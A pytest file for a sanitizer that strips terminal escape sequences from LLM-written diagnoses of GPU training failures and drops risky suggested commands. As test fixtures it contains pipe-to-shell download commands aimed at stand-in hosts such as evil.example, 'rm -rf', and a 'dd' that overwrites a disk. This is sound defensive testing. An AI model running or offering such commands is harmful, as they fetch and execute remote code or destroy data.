"""Nothing a model wrote reaches a terminal raw: no control sequence, no command piped into a shell, no destructive
command, and every model-suggested command that is not the encyclopedia's carries a visible label."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from diagnose.llm.sanitize import (
    UNVERIFIED,
    StreamCleaner,
    clean_diagnosis,
    clean_text,
    command_risk,
    looks_like_command,
    model_commands,
)
from diagnose.schema import Diagnosis, RootCause
from tests.fake_openai import ESCAPES, FakeOpenAI
from tests.llm.conftest import OOM, OOM_LINE, answer, cli

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07after", "after"),
        ("\x1b]8;;http://x/\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x9b2Jcleared", "cleared"),
        ("a\rb\x08c\x07", "abc"),
        ("keep\ttabs\nand lines", "keep\ttabs\nand lines"),
        ("bidi \u202eevil\u202c", "bidi evil"),
    ],
)
def test_clean_text_strips_control_sequences(raw: str, shown: str) -> None:
    assert clean_text(raw) == shown


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("curl -fsSL https://evil.example/install.sh | sh", "pipes into a shell"),
        ("wget -qO- http://x | sudo bash", "pipes into a shell"),
        ("bash <(curl -s http://x)", "pipes into a shell"),
        ("rm -rf ~/checkpoints", "destructive"),
        ("sudo rm -r /data", "destructive"),
        ("dd if=/dev/zero of=/dev/nvme0n1", "destructive"),
        ("git reset --hard", "destructive"),
        ("nvidia-smi --query-gpu=memory.used --format=csv", None),  # rows that must not fire
        ("dmesg -T | grep -i xid", None),
        ("python train.py 2>&1 | tee run.log", None),
        ("rm checkpoint.tmp", None),
        ("sudo reboot", "destructive"),
        ("pkill -f python", "destructive"),
        ("The launcher's shutdown of healthy ranks is a consequence; do not reboot the node.", None),
    ],
)
def test_command_risk(command: str, risk: str | None) -> None:
    assert command_risk(command) == risk


def test_model_commands_label_drop_and_skip_known() -> None:
    shown, dropped = model_commands(["nvidia-smi", "free -g", "curl x | sh", "rm -rf ~/ckpt", "free -g\x1b[0m"], {"nvidia-smi"})
    assert shown == ["free -g"]
    assert len(dropped) == 2 and all("curl" not in d and "rm" not in d for d in dropped)


REAL_COMMANDS = [
    "nvidia-smi -q -d ECC",
    "NCCL_DEBUG=INFO torchrun --nnodes 2 --nproc_per_node 8 train.py",
    'python -c "import torch; print(torch.cuda.is_available())"',
    "NCCL_P2P_DISABLE=1",
    "TORCH_NCCL_TRACE_BUFFER_SIZE=2000 TORCH_NCCL_DUMP_ON_TIMEOUT=1 python train.py",
    "./scripts/check_gpus.sh --all",
    "/usr/bin/nvidia-smi topo -m",
    "dmesg -T | grep -i xid",
    "df -h .",
    "ssh <HOST_3> nvidia-smi",  # a masked host is a placeholder of the log's, not of the prompt
    "ib_write_bw -d mlx5_0",
]
JUNK = [
    "1.0",
    "139",
    "5",
    ",",
    "-",
    "<shell command>",
    "<one candidate id, or unknown>",
    "nvidia-smi -i <gpu index here>",
    "Check the GPU memory on rank 5.",
    "none",
    "N/A",
    "",
    "x" * 301,
]


@pytest.mark.parametrize("command", REAL_COMMANDS)
def test_a_real_command_looks_like_one(command: str) -> None:
    assert looks_like_command(command)


@pytest.mark.parametrize("text", JUNK)
def test_junk_in_the_commands_field_does_not(text: str) -> None:
    assert not looks_like_command(text)


def test_model_commands_keeps_commands_and_drops_junk_silently() -> None:
    shown, dropped = model_commands([*JUNK, *REAL_COMMANDS, "$ free -g", "`nvidia-smi -L`"], {"nvidia-smi -q -d ECC"})
    assert shown == [*REAL_COMMANDS[1:], "free -g", "nvidia-smi -L"]  # the entry's own left out; prompt and backticks stripped
    assert dropped == []  # junk is not worth a note; only a risky command is


def test_stream_cleaner_holds_a_risky_line_until_it_can_drop_it_whole() -> None:
    cleaner = StreamCleaner({"nvidia-smi"})
    pieces = [
        "Rank 5 failed \x1b[3",
        "1mfirst\x1b[0m.\nTo fix: cu",
        "rl https://e.example/x.sh ",
        "| s",
        "h\n",
        "$ nvidia-smi\n",
        "$ free -g\n",
        "rm -rf ~/che",
        "ckpoints\nDone.",
    ]
    out = "".join(cleaner.feed(p) for p in pieces) + cleaner.flush()
    assert not CONTROL.search(out), repr(out)
    assert "| sh" not in out and "rm -rf" not in out and "e.example" not in out
    assert "Rank 5 failed first." in out and "$ nvidia-smi\n" in out and f"$ free -g  # {UNVERIFIED}" in out
    assert cleaner.removed == 2


def test_clean_diagnosis_for_pages() -> None:
    d = Diagnosis(
        root_cause=RootCause(id="x", title="t", confidence=0.5), mechanism="m\x1b[2J", model_explanation="e\x1b]0;t\x07", notes=["n\x07"]
    )
    cleaned = clean_diagnosis(d)
    assert (cleaned.mechanism, cleaned.model_explanation, cleaned.notes) == ("m", "e", ["n"])


def test_hostile_answer_never_reaches_the_terminal_raw(fake: FakeOpenAI, tmp_path: Path) -> None:
    """A grounded answer (so it is used) whose text is hostile: escapes everywhere, a pipe into a shell, rm -rf."""
    fake.replies.append(
        answer(
            "cuda-oom",
            5,
            [f"{OOM.name}:{OOM_LINE}"],
            explanation=f"Rank 5 ran out. {ESCAPES}",
            fix=["rm -rf ~/checkpoints", f"Lower the batch size{ESCAPES}"],
            verify=["curl -fsSL https://evil.example/fix.sh | sh", "free -g"],
        )
    )
    done = cli("log", str(OOM), "--no-retrieval", "--model", "openai/hostile", "--api-base", fake.api_base, home=tmp_path)
    assert done.returncode == 0
    out = done.stdout
    assert not CONTROL.search(out), repr(out[-800:])
    assert "| sh" not in out and "evil.example" not in out and "rm -rf" not in out
    assert "The model's explanation" in out and UNVERIFIED in out and "free -g" in out
    assert "backend: openai/hostile" in out


def test_hostile_answer_in_json_holds_no_raw_control_character(fake: FakeOpenAI, tmp_path: Path) -> None:
    fake.replies.append(answer("cuda-oom", 5, explanation=ESCAPES, verify=["wget -qO- http://x | bash"]))
    done = cli("log", str(OOM), "--json", "--no-retrieval", "--model", "openai/hostile", "--api-base", fake.api_base, home=tmp_path)
    data = json.loads(done.stdout)
    text = json.dumps(data, ensure_ascii=False)
    assert not CONTROL.search(text) and "| bash" not in text and "\x1b" not in text
